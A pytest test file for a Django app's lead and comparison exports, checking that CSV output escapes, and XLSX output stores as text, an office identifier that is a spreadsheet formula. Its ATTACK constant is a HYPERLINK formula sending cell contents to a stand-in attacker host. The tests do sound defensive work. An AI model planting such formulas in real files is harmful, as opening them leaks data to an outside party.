"""Measure's CSV and XLSX exports: an identifier from an uploaded file never runs as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from arusha_web.conftest import client_for
from arusha_web.measure.models import AnalysisRun, Dataset, Lead, Publication, RunStatus

# An office code as an uploaded export could carry it: opening the file must not follow the link.
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"PORT1")'


@pytest.fixture
def runs(personas: dict[str, Any]) -> list[AnalysisRun]:
    """Two finished analyses, each with a lead about an office whose code is a formula."""
    dataset = Dataset.objects.create(name="Uploaded", store_path="/nonexistent/store.duckdb")
    made = []
    for days_ago, score in ((2, 3.0), (1, 5.0)):
        when = timezone.now() - dt.timedelta(days=days_ago)
        run = AnalysisRun.objects.create(
            dataset=dataset, out_dir="/nonexistent", status=RunStatus.DONE, created_at=when, finished_at=when
        )
        Publication.objects.create(run=run, published_at=when)
        Lead.objects.create(
            run=run, rank=1, entity_type="office", entity_id=ATTACK, office_code="PORT1", score=score,
            kind="benford", explanation="Declared amounts with an unusual pattern of leading digits",
        )  # fmt: skip
        made.append(run)
    return made


def test_the_leads_csv_escapes_the_formula(personas: dict[str, Any], runs: list[AnalysisRun]) -> None:
    response = client_for(personas["ana"]).get(reverse("measure:leads"), {"export": "1", "format": "csv"})
    [row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert "'" + ATTACK in row and ATTACK not in row


def test_the_leads_xlsx_stores_the_formula_as_text(personas: dict[str, Any], runs: list[AnalysisRun]) -> None:
    response = client_for(personas["ana"]).get(reverse("measure:leads"), {"export": "1", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for c in sheet[2] if c.value == ATTACK]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_comparison_csv_escapes_the_formula_and_keeps_numbers(
    personas: dict[str, Any], runs: list[AnalysisRun]
) -> None:
    before, after = runs
    params = {"a": str(before.pk), "b": str(after.pk), "format": "csv"}
    response = client_for(personas["ana"]).get(reverse("measure:compare"), params)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    [lead] = [r for r in rows if r["section"] == "lead_still"]
    assert lead["entity_id"] == "'" + ATTACK
    assert (lead["before"], lead["after"], lead["change"]) == ("3", "5", "2")
